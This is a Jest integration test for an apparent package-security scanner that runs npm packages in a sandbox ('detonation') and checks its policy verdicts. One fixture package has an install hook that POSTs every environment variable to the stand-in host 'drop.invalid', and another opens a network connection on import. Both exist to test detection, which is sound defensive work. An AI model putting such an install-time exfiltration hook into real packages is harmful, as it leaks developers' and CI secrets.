import { npmPackage, type Files } from '@sallyport/analysis/testing';
import { ArtifactStore } from '@sallyport/artifact-store';
import {
  applyPolicy,
  compareArtifacts,
  getBehaviour,
  getFacts,
  getPolicy,
  scanClosure,
  type ArtifactReport,
  type Digest,
} from '@sallyport/domain';
import type { Bus } from '@sallyport/messaging';
import { hook, INDEX, POST } from '../support/detonation';
import { connectAs, connectAsService, startPrivateStack, until, type PrivateStack } from '../support/stack';

// A stack of its own, and two cages for each artifact that is run.
jest.setTimeout(400_000);

const SERVICES = 'governance,scanner';
const QUIET: Files = { ...INDEX, 'set-up.js': "require('fs').readdirSync(__dirname);" };

describe('second look', () => {
  let stack: PrivateStack;
  let admin: Bus;
  let governance: Bus;
  let store: ArtifactStore;
  /** Archives are packed with the time: the same files twice are two artifacts. */
  let quiet: Digest;

  beforeAll(async () => {
    stack = await startPrivateStack('--services', SERVICES);
    admin = await connectAs(stack, 'admin');
    governance = await connectAsService(stack, 'governance');
    store = new ArtifactStore(stack.artifactStoreDir);
    quiet = await keep('quiet', hook('set-up.js'), QUIET);
  });
  afterAll(async () => {
    await governance?.close();
    await admin?.close();
    await stack?.destroy();
  });

  async function keep(name: string, manifest: Record<string, unknown>, files: Files): Promise<Digest> {
    const bytes = await npmPackage({ ...manifest, name }, files);
    return (await store.put(bytes, { maxBytes: bytes.length })).digest;
  }

  async function scan(name: string, digest: Digest, version = '1.0.0'): Promise<ArtifactReport> {
    const path = `node_modules/${name}`;
    const artifact = {
      ...{ kind: 'tarball' as const, filename: `${name}-${version}.tgz` },
      ...{ url: `https://registry.invalid/${name}.tgz`, integrity: `sha512-${'A'.repeat(86)}==` },
    };
    const report = await admin.call(scanClosure, {
      lock: {
        ...{ ecosystem: 'npm', target: 'node-22', requirements: [name], roots: [path] },
        packages: [{ name, version, path, artifact, dependencies: [], digest }],
      },
    });
    return report.artifacts[0] as ArtifactReport;
  }

  async function ask(mode: 'enforce' | 'dry-run'): Promise<void> {
    const { text } = await admin.call(getPolicy, {});
    const without = text.replace(/^ {2}not-detonated:.*\n/m, '');
    const wanted = without.replace(/^rules:\n/m, `rules:\n  not-detonated: { mode: ${mode} }\n`);
    await admin.call(applyPolicy, { actor: { kind: 'person', id: 'ann' }, text: wanted });
  }

  it('is not taken where no policy asks for it', async () => {
    const seen = await scan('quiet', quiet);

    expect(seen.highRisk).toBe(true);
    expect(seen.detonation).toBeUndefined();
    expect(seen.verdict).not.toBe('unknown');
  });

  it('leaves what is of high risk unjudged where nobody can take it, and nothing else', async () => {
    await ask('enforce');

    const risky = await scan('quiet', quiet);
    const plain = await scan('plain', await keep('plain', {}, INDEX));

    expect(risky).toMatchObject({ verdict: 'unknown', detonation: { mode: 'enforce', verdict: null } });
    expect(risky.findings).toContainEqual(
      expect.objectContaining({ rule: 'detonation-missing', message: expect.stringContaining('No service') }),
    );
    expect(plain).toMatchObject({ verdict: 'clean', highRisk: false });
    const { facts } = await admin.call(getFacts, { ecosystem: 'npm', name: 'quiet', version: '1.0.0' });
    expect(facts?.scanFailed?.message).toContain('that was not done');
  });

  describe('with a detonator', () => {
    beforeAll(async () => {
      await stack.up('--services', `${SERVICES},detonator`);
      await until(async () => (await admin.discover()).find(({ name }) => name === 'detonator'));
    });

    it('clears what both looks clear, and keeps what was seen', async () => {
      const seen = await scan('quiet', quiet);

      expect(seen.detonation).toMatchObject({ mode: 'enforce', verdict: 'clean', why: null });
      expect(['clean', 'warning']).toContain(seen.verdict);
      const behaviour = await admin.call(getBehaviour, { digest: quiet });
      expect(behaviour).toMatchObject({
        ...{ verdict: 'clean', behaviour: seen.detonation?.behaviour },
        contract: { name: 'quiet', artifact: quiet },
      });
      const { facts } = await admin.call(getFacts, { ecosystem: 'npm', name: 'quiet', version: '1.0.0' });
      expect(facts).toMatchObject({ scanFailed: null, artifacts: [{ highRisk: true, detonated: 'clean' }] });
    });

    it('holds what only running it shows', async () => {
      const digest = await keep('taker', hook('take.js'), {
        ...INDEX,
        'take.js': POST('drop.invalid', 'Object.entries(process.env).map(String).join()'),
      });

      const seen = await scan('taker', digest);

      expect(seen).toMatchObject({ verdict: 'malicious', detonation: { verdict: 'malicious' } });
      expect(seen.findings.map(({ rule }) => rule)).toContain('detonation-canary-sent');
    });

    it('tells what a version does that the one before did not', async () => {
      const after = await keep(
        'quiet',
        { version: '1.0.1', ...hook('set-up.js') },
        { ...QUIET, 'index.js': "require('net').connect(80, '192.0.2.9').on('error', () => 0).end();" },
      );
      await scan('quiet', after, '1.0.1');

      const { comparisons } = await governance.call(compareArtifacts, {
        pairs: [{ digest: after, against: quiet }],
      });

      expect(comparisons[0]?.behaviours).toEqual({
        count: 1,
        first: [
          { phase: 'import', act: 'connect', what: '192.0.2.9:80', environments: ['workstation', 'ci'] },
        ],
      });
    });

    it('is told and settles nothing in dry run', async () => {
      await ask('dry-run');
      const digest = await keep('failing', hook('fail.js'), { ...INDEX, 'fail.js': 'process.exit(3);' });

      const seen = await scan('failing', digest);

      expect(seen.detonation).toMatchObject({ mode: 'dry-run', verdict: 'unknown' });
      expect(seen.verdict).not.toBe('unknown');
    });

    it('stays had when the detonator is gone', async () => {
      await ask('enforce');
      await stack.down('detonator');

      const seen = await scan('quiet', quiet);

      expect(seen.detonation).toMatchObject({ verdict: 'clean' });
    });
  });
});
